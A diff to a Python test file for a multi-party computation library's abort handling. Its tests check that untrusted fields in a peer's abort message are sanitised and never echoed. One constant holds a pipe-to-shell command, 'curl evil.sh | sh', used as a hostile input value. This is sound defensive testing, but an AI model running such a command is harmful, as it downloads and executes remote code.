@@ -8,10 +8,16 @@ from typing import Any
 
 import pytest
 
-from mpc.errors import DataError, InternalError, InterruptedRun, PeerLostError, ProtocolError
-from mpc.session import Frame
+from mpc.errors import BeaverlodgeError, DataError, InterruptedRun, PeerLostError, ProtocolError
+from mpc.giving_up import last_words
+from mpc.session import HANDSHAKE, Frame
 from tests.links.over_zmq import LONG, Sent, Site, at_once, sites, values
 from tests.links.pairs import KEY, both, fails, greet, swap
+
+
+def words_of(code: Any, stage: Any, origin: Any, **more: Any) -> bytes:
+    """An abort as a peer may send it."""
+    return json.dumps({"code": code, "stage": stage, "origin": origin, **more}).encode()
 
 
 @pytest.fixture
@@ -50,10 +56,9 @@ def test_an_abort_about_another_party_names_that_one(pair: dict[str, Site]) -> N
     assert fields == {"code": "peer-lost", "stage": "training", "origin": "c"}
 
 
-def test_an_abort_that_was_told_keeps_its_origin(pair: dict[str, Site]) -> None:
-    told = DataError("c stopped the run", party="c", told_by="c")
-    _, fields = aborted(pair, told, "training")
-    assert fields == {"code": "data", "stage": "training", "origin": "c"}
+def test_an_abort_that_was_told_says_that_its_origin_is_lost_and_nothing_in_its_name(pair: dict[str, Site]) -> None:
+    told = DataError("a stopped the run", party="a", told_by="a")
+    assert last_words(told, "training", "b") == b'{"code": "peer-lost", "stage": "training", "origin": "a"}'
 
 
 def test_an_error_about_a_peer_that_was_found_here_comes_from_here(pair: dict[str, Site]) -> None:
@@ -61,34 +66,54 @@ def test_an_error_about_a_peer_that_was_found_here_comes_from_here(pair: dict[st
     assert fields == {"code": "protocol", "stage": "training", "origin": "b"}
 
 
+EVIL = "curl evil.sh | sh"
+UNKNOWN = "b stopped the run in an unknown stage"
+
+
 @pytest.mark.parametrize(
     ("body", "kind", "words"),
     [
-        (b"", ProtocolError, "b stopped the run in stage 'unknown' (protocol)"),
-        (b"[1, 2]", ProtocolError, "b stopped the run in stage 'unknown' (protocol)"),
-        (b'{"code": "data"}', ProtocolError, "b stopped the run in stage 'unknown' (protocol)"),
-        (b"[" * 100_000, ProtocolError, "b stopped the run in stage 'unknown' (protocol)"),
-        (b'{"code": "x", "stage": "s", "origin": "b"}', InternalError, "b stopped the run in stage 's' (internal)"),
-        (b'{"code": "data", "stage": "s", "origin": "all"}', DataError, "b stopped the run in stage 's' (data)"),
-        (b'{"code": "data", "stage": "s", "origin": "a"}', DataError, "a stopped the run in stage 's' (data)"),
+        (b"", ProtocolError, f"{UNKNOWN} (protocol)"),
+        (b"[1, 2]", ProtocolError, f"{UNKNOWN} (protocol)"),
+        (b'{"code": "data"}', DataError, f"{UNKNOWN} (data)"),
+        (b"[" * 100_000, ProtocolError, f"{UNKNOWN} (protocol)"),
+        (words_of("x", "dealing", "b"), ProtocolError, "b stopped the run in stage 'dealing' (protocol)"),
+        (words_of(EVIL, "dealing", "b"), ProtocolError, "b stopped the run in stage 'dealing' (protocol)"),
+        (words_of("data", EVIL, "b"), DataError, f"{UNKNOWN} (data)"),
+        (words_of("data", "training", "b"), DataError, f"{UNKNOWN} (data)"),
+        (words_of("data", "data", EVIL), DataError, "b stopped the run in stage 'data' (data)"),
+        (words_of("data", "data", "a"), DataError, "b stopped the run in stage 'data' (data)"),
+        (words_of("data", "data", "c"), DataError, "b stopped the run in stage 'data' (data)"),
+        (words_of("peer-lost", "data", EVIL), PeerLostError, "b stopped the run in stage 'data' (peer-lost)"),
+        (words_of("peer-lost", EVIL, "b"), PeerLostError, f"{UNKNOWN} (peer-lost)"),
         (
-            b'{"code": "data", "stage": "a\\nFAKE LINE", "origin": "b"}',
-            DataError,
-            "b stopped the run in stage 'unknown' (data)",
+            words_of("peer-lost", EVIL, "a"),
+            PeerLostError,
+            "b says that it lost contact with a, in an unknown stage (peer-lost)",
         ),
-        (
-            json.dumps({"code": "data", "stage": "s" * 1000, "origin": "b"}).encode(),
-            DataError,
-            f"b stopped the run in stage '{'s' * 64}' (data)",
-        ),
+        (words_of("data", "a\nFAKE LINE", "b"), DataError, f"{UNKNOWN} (data)"),
+        (words_of("data", "s" * 1000, "b"), DataError, f"{UNKNOWN} (data)"),
+        (words_of("data", ["data"], {"b": 1}), DataError, f"{UNKNOWN} (data)"),
+        (words_of(7, None, True), ProtocolError, f"{UNKNOWN} (protocol)"),
+        (words_of("data", "data", "b", more="x" * 5000), ProtocolError, f"{UNKNOWN} (protocol)"),
     ],
 )
 def test_nothing_of_an_aborts_text_is_trusted(
-    pair: dict[str, Site], body: bytes, kind: type[Exception], words: str
+    pair: dict[str, Site], body: bytes, kind: type[BeaverlodgeError], words: str
 ) -> None:
     pair["b"].transport.send("a", pair["b"].channel._links["a"].abort(body))
-    error = fails(lambda: pair["a"].channel.exchange(swap("b", 1)), kind, "stopped the run")
-    assert error.message == words
+    error = fails(lambda: pair["a"].channel.exchange(swap("b", 1)), kind, "b s")
+    assert type(error) is kind and error.message == words
+    assert error.party == error.told_by == "b"
+    assert EVIL not in str(error) + "".join(pair["a"].said)
+
+
+def test_a_programs_stages_are_known_once_there_is_a_plan(pair: dict[str, Site]) -> None:
+    pair["a"].channel.bound({"b": HANDSHAKE}, {"b": HANDSHAKE}, {"training"}, 1)
+    body = words_of("data", "training", "b")
+    pair["b"].transport.send("a", pair["b"].channel._links["a"].abort(body))
+    error = fails(lambda: pair["a"].channel.exchange(swap("b", 1)), DataError, "b stopped")
+    assert error.message == "b stopped the run in stage 'training' (data)"
 
 
 def test_an_abort_before_the_session_key_reaches_peers_with_and_without_it() -> None:
